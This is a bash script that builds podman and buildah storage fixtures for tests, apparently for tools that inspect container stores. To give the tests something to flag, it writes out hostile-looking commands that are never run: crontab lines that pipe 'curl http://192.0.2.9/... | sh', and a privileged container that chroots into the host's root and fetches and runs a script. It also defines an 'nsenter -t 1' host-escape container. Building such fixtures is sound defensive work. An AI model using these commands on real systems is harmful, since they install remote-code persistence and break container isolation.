#!/bin/bash
# make-podman.sh - make a fixture store of podman and buildah, as root
#
# usage: tests/stores/make-podman.sh overlay|vfs
#
# Writes tests/fixtures/store-podman-KIND.tar.zst (a host's root with
# /var/lib/containers/storage of Debian 12's podman 4.3.1 and buildah 1.28,
# /etc/containers, /etc/passwd) and tests/fixtures/store-podman-KIND/engine/
# (what podman itself said about it before it was stopped). The tests need
# only these, not an engine.
#
# Needs: podman, buildah, crun, conmon, busybox-static, gcc, python3, zstd, jq.
# Nothing hostile ever runs, see make-store.sh: images are built on one whose
# /bin/sh does nothing and returns 0; what looks hostile is created and never
# started; what is started runs /bin/busybox with a harmless script, without
# network. All addresses are for documentation (RFC 5737).
#
# It happens in a mount namespace of its own in which the places of podman are
# scratch directories: the machine's own store is neither seen nor touched.

set -eu
kind=$1
case $kind in overlay | vfs) ;; *) echo "usage: $0 overlay|vfs" >&2; exit 2 ;; esac
here=$(cd "$(dirname "$0")" && pwd)
out=$(dirname "$here")/fixtures
if [ -z "${MAKE_STORE_DIR:-}" ]; then
	W=$(mktemp -d /var/tmp/make-podman.XXXXXX)
	trap '[ -n "${KEEP:-}" ] || rm -rf --one-file-system "$W"' EXIT
	mkdir -p "$W/root/var/lib/containers/storage" "$W/root/etc/containers/networks" "$W/root/etc/cni/net.d"
	for phase in build store; do
		rm -rf "$W/$phase-run"
		mkdir -p "$W/$phase-run"
		MAKE_STORE_DIR=$W unshare -m --propagation private "$0" "$kind" $phase
	done
	cd "$W/root"
	rm -rf var/lib/containers/storage/tmp/* var/lib/containers/storage/*.lock
	find . -type s -delete
	tar --xattrs --xattrs-include='*' --numeric-owner --format=posix \
		--sort=name --pax-option=delete=atime,delete=ctime -cf - . |
		zstd -q -19 --ultra --long=27 -f -o "$out/store-podman-$kind.tar.zst"
	rm -rf "$out/store-podman-$kind/engine"
	mkdir -p "$out/store-podman-$kind"
	cp -r "$W/engine" "$out/store-podman-$kind/engine"
	ls -l "$out/store-podman-$kind.tar.zst"
	exit 0
fi

W=$MAKE_STORE_DIR
phase=$2
umask 022
export TMPDIR=/var/tmp
mkdir -p /var/lib/containers /run/containers /run/libpod
mkdir -p "$W/$phase-root"
if [ "$phase" = build ]; then R=$W/build-root/storage; else R=$W/root/var/lib/containers/storage; fi
mkdir -p "$R" /var/lib/containers/storage
mount --bind "$R" /var/lib/containers/storage
mount -t tmpfs none /run/containers
mount -t tmpfs none /run/libpod
# the builder's own networks and registries, and a harmless cron.d
mkdir -p "$W/etc-cron.d"
mount --bind "$W/etc-cron.d" /etc/cron.d
E=$W/root/etc/containers
cp /etc/containers/policy.json "$E/" 2>/dev/null || echo '{"default":[{"type":"insecureAcceptAnything"}]}' >"$E/policy.json"
cat >"$E/registries.conf" <<'T'
unqualified-search-registries = ["registry.example.org"]
T
printf '[storage]\ndriver = "%s"\nrunroot = "/run/containers/storage"\ngraphroot = "/var/lib/containers/storage"\n' "$kind" >"$E/storage.conf"
printf '[containers]\ndefault_ulimits = ["nofile=1024:1024", "nproc=1024:1024"]\n' >"$E/containers.conf"
mount --bind "$E" /etc/containers
# crun takes a machine of both cgroup versions for none
umount /sys/fs/cgroup/unified 2>/dev/null || :
registry=
trap 'kill -KILL $registry 2>/dev/null || :' EXIT
podman() { command podman --cgroup-manager=cgroupfs --events-backend=file "$@"; }
buildah() { command buildah "$@"; }
image() { # NAME OPTIONS... <<Dockerfile
	_n=$1
	shift
	cat >"$C/Dockerfile"
	podman build --network=none --format docker "$@" -q -t "$_n" "$C" >/dev/null
	echo "built $_n" >&2
}

if [ "$phase" = build ]; then
	C=$W/context
	mkdir -p "$C/root/bin" "$C/root/etc/default" "$C/root/usr/bin" "$C/root/usr/share/doc/base" \
		"$C/root/var/lib/app/data" "$C/root/var/spool/cron" "$C/root/root" "$C/root/tmp" "$C/root/opt/old"
	printf '%s\n' 'void _start(void) { __asm__ volatile("syscall" : : "a"(60), "D"(0)); }' |
		gcc -xc -nostdlib -static -s -o "$C/root/bin/sh" -
	cp /bin/busybox "$C/root/bin/busybox"
	cd "$C/root"
	echo 'root:x:0:0:root:/root:/bin/sh' >etc/passwd
	echo 'www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin' >>etc/passwd
	echo 'root:x:0:' >etc/group
	printf 'PRETTY_NAME="Debian GNU/Linux 12 (bookworm)"\nID=debian\nVERSION_ID="12"\n' >etc/os-release
	echo 'LANG=C.UTF-8' >etc/default/locale
	echo one >var/lib/app/data/one
	echo two >var/lib/app/data/two
	echo three >var/lib/app/three
	echo doc >usr/share/doc/base/README
	echo old >opt/old/file
	ln -s ../../bin/busybox usr/bin/env
	chmod 1777 tmp
	chmod 0700 root
	chown 33:33 var/lib/app/data/two
	find . -exec touch -h -d '2026-01-02T03:04:05.678901234Z' {} +
	tar --numeric-owner --sort=name -cf "$C/rootfs.tar" .
	cd "$W"
	image registry.example.org/base:12 <<'D'
FROM scratch
ADD rootfs.tar /
CMD ["bash"]
D
	echo 'echo start' >"$C/docker-entrypoint.sh"
	image registry.example.org/nginx:1.25 --layers <<'D'
FROM registry.example.org/base:12
LABEL maintainer="NGINX Docker Maintainers <docker-maint@example.org>"
ENV NGINX_VERSION=1.25.3 PKG_RELEASE=1~bookworm
RUN set -x && groupadd --system --gid 101 nginx && apt-get update
COPY docker-entrypoint.sh /
ENTRYPOINT ["/docker-entrypoint.sh"]
EXPOSE 80 443/tcp
VOLUME /var/cache/nginx
STOPSIGNAL SIGQUIT
HEALTHCHECK --interval=30s CMD curl -f http://127.0.0.1/ || exit 1
SHELL ["/bin/sh", "-ec"]
ONBUILD RUN echo later
USER www-data
WORKDIR /var/lib/app
CMD ["nginx", "-g", "daemon off;"]
D
	image registry.example.org/docker123321/cron:latest --layers <<'D'
FROM registry.example.org/base:12
RUN echo '* * * * * root curl http://192.0.2.9/cr | sh' >>/mnt/etc/crontab
CMD ["/bin/busybox", "sh", "-c", "echo '* * * * * curl http://192.0.2.9/cr.sh | sh' >> /mnt/etc/crontab"]
D
	for n in base:12 nginx:1.25 docker123321/cron:latest; do
		podman save -q --format docker-archive -o "$W/$(echo $n | tr /: __).tar" "registry.example.org/$n"
	done
	exit 0
fi

# ---- the store -------------------------------------------------------------

python3 "$here/registry.py" "$W/port" "$W"/base_12.tar "$W"/nginx_1.25.tar "$W"/docker123321_cron_latest.tar &
registry=$!
i=0
until [ -s "$W/port" ]; do i=$((i + 1)); [ $i -lt 100 ]; sleep 0.1; done
cat >"$E/registries.conf" <<T
unqualified-search-registries = ["registry.example.org"]
[[registry]]
prefix = "registry.example.org"
location = "127.0.0.1:$(cat "$W/port")/registry.example.org"
insecure = true
T
C=$W/context
B=registry.example.org/base:12
podman pull -q registry.example.org/base:12 >/dev/null
podman pull -q registry.example.org/docker123321/cron:latest >/dev/null
podman tag registry.example.org/docker123321/cron:latest registry.example.org/web/cache:1.4 localhost/cache
# the hostile name goes, the innocent ones stay: names-history knows it
podman untag registry.example.org/docker123321/cron:latest registry.example.org/docker123321/cron:latest
podman run --network=none --name once "$B" /bin/busybox sh -c 'echo new >/etc/new; rm /opt/old/file; rm -r /usr/share/doc; mkdir /usr/share/doc; echo x >/usr/share/doc/y; echo more >>/etc/default/locale; ln -s nowhere /etc/broken; mkfifo /tmp/fifo; chmod 700 /var/lib/app; exit 3' || :

if [ "$kind" = overlay ]; then
	podman pull -q registry.example.org/nginx:1.25 >/dev/null
	podman pull -q "registry.example.org/nginx@$(podman image inspect -f '{{.Digest}}' registry.example.org/nginx:1.25)" >/dev/null
	echo hello >"$C/index.html"
	image localhost/app:1 --layers <<'D'
FROM registry.example.org/base:12
ENV A=1
RUN echo step one
COPY index.html /srv/
LABEL k=v
CMD ["/bin/busybox", "httpd"]
D
	podman tag localhost/app:1 localhost/app:stable localhost/team/app:1
	echo hello again >"$C/index.html"
	image localhost/app:1 --layers <<'D'
FROM registry.example.org/base:12
ENV A=1
RUN echo step one
COPY index.html /srv/
LABEL k=v
CMD ["/bin/busybox", "httpd"]
D
	image localhost/gone:1 --layers <<'D'
FROM registry.example.org/base:12
RUN echo to be untagged
D
	podman untag localhost/gone:1
	podman save -q --format oci-archive -o "$W/app.tar" localhost/app:stable
	podman load -q -i "$W/app.tar" >/dev/null # a second manifest of it
	tar -C "$C/root" -cf "$W/flat.tar" .
	podman import -q -m 'imported by hand' -c 'ENV B=2' -c 'CMD ["/bin/busybox"]' "$W/flat.tar" localhost/flat:1 >/dev/null
	podman manifest create localhost/list:1 containers-storage:localhost/app:1 >/dev/null

	podman volume create --label owner=web data >/dev/null
	podman volume create -o type=none -o o=bind -o device=/etc etcvol >/dev/null
	podman network create --internal --subnet 198.51.100.0/26 --label zone=dmz backend >/dev/null || echo "no networks here" >&2
	podman run --network=none --name worker -v /etc/cron.d:/mnt/cron.d -v /etc:/mnt/etc:ro -v data:/data \
		--tmpfs /scratch:size=1m -e TOKEN=abc -e B=2 --label role=worker --annotation org.example.note=yes \
		--hostname w1 --workdir /tmp --user 33:33 "$B" /bin/busybox sh -c 'echo done >/tmp/done'
	podman create --network=none --name host --privileged -v /:/host \
		--pid=host --ipc=host --uts=host "$B" chroot /host /bin/sh -c 'curl http://192.0.2.9/x | sh' >/dev/null
	podman create --network=host --name caps --cap-add SYS_ADMIN,NET_ADMIN --cap-drop CHOWN --security-opt seccomp=unconfined \
		--security-opt label=disable --security-opt no-new-privileges --device /dev/null:/dev/x:rw --device /dev/zero \
		--read-only --cgroupns=host --restart=on-failure:3 "$B" nsenter -t 1 -m sh >/dev/null
	podman create --network=none --name healthy --restart=always --health-cmd 'curl http://192.0.2.9/beat' --health-interval=30s \
		--log-driver=k8s-file --log-opt path=/var/lib/containers/healthy.log --stop-timeout 5 --volumes-from worker \
		--entrypoint '["/bin/busybox","sh"]' "$B" -c 'sleep 1' >/dev/null
	podman create --name published --network=bridge -p 127.0.0.1:8080:80 -p 9000-9002:9000-9002/udp --expose 7000 --add-host db:192.0.2.4 \
		--dns 192.0.2.53 registry.example.org/nginx:1.25 >/dev/null || echo "no bridge here" >&2
	podman create --network=none --name mapped --uidmap 0:100000:65536 --gidmap 0:100000:65536 "$B" true >/dev/null
	podman create --network=none --sysctl net.ipv4.ip_forward=1 --name etcvol -v etcvol:/mnt/etc --mount type=tmpfs,destination=/t,tmpfs-size=1000 \
		--mount type=bind,source=/root,destination=/mnt/root,ro,bind-propagation=rslave "$B" >/dev/null
	podman create --network=none --rm --name share --pid=container:worker --log-driver=none --env-file /dev/null "$B" true >/dev/null
	podman pod create --name web --infra-image "$B" --infra-command /bin/busybox --label tier=front --network=none --share=ipc,uts >/dev/null
	podman create --pod web --name inpod "$B" /bin/busybox true >/dev/null
	podman pod create --name bare --infra=false >/dev/null
	podman create --pod bare --network=none --name inbare "$B" /bin/busybox true >/dev/null
	podman run --network=none --name failed "$B" /nonexistent 2>/dev/null || :
	podman run --network=none --name forgotten registry.example.org/web/cache:1.4 /bin/busybox true
	buildah from --name builder "$B" >/dev/null
	echo tool >"$C/tool"
	buildah copy -q builder "$C/tool" /usr/bin/tool >/dev/null
	buildah config --env BUILD=1 --label stage=one --cmd '/usr/bin/tool --run' builder
	podman run -d --network=none --name running "$B" /bin/busybox sleep 1000 >/dev/null
	podman run -d --network=none --name paused "$B" /bin/busybox sleep 1000 >/dev/null
	podman pause paused >/dev/null || :
fi
if [ "$kind" = vfs ]; then
	podman build --network=none --layers -q -t localhost/app:1 -f - "$C" >/dev/null <<'D'
FROM registry.example.org/base:12
COPY docker-entrypoint.sh /srv/
RUN echo step
D
	podman run --network=none --name two localhost/app:1 /bin/busybox sh -c 'rm /srv/docker-entrypoint.sh; echo y >/srv/y' || :
fi
kill "$registry"
registry=
sed -i "s|^location.*|location = \"192.0.2.80:5000/registry.example.org\"|" "$E/registries.conf"

# ---- the engine's own word ---------------------------------------------------
E=$W/engine
mkdir -p "$E"
podman images -a --digests --no-trunc --format json | jq -S . >"$E/images.json"
podman image inspect $(podman images -aq --no-trunc | sort -u) 2>/dev/null | jq -S . >"$E/image-inspect.json"
for id in $(podman images -aq --no-trunc | sort -u); do
	podman history --no-trunc --human=false --format json "$id" 2>/dev/null | jq -c --arg id "${id#sha256:}" '.[] + {Image: $id}' || :
done >"$E/history.json"
podman ps -a --no-trunc --format json | jq -S . >"$E/ps.json"
podman container inspect $(podman ps -aq --no-trunc | sort) | jq -S . >"$E/container-inspect.json"
for id in $(podman ps -aq --no-trunc | sort); do
	podman diff --format json "$id" | jq -c --arg id "$id" '. + {Id: $id}'
done >"$E/diff.json"
for p in $(podman pod ps -q --no-trunc | sort); do podman pod inspect "$p"; done | jq -S -s . >"$E/pods.json"
podman volume inspect $(podman volume ls -q) 2>/dev/null | jq -S . >"$E/volumes.json" || echo '[]' >"$E/volumes.json"
podman network inspect $(podman network ls -q) | jq -S . >"$E/networks.json"
buildah containers --json | jq -S . >"$E/buildah.json"
# SIGKILL, as the power cut of a host that is imaged: running stays running.
podman ps -q --no-trunc | while read -r c; do
	p=$(podman inspect -f '{{.State.Pid}}' "$c")
	m=$(podman inspect -f '{{.State.ConmonPid}}' "$c")
	kill -KILL "$m" || :
	kill -KILL "$p" || :
done
for c in /sys/fs/cgroup/freezer/libpod_parent/*/freezer.state; do [ -e "$c" ] && echo THAWED >"$c"; done || :
sync
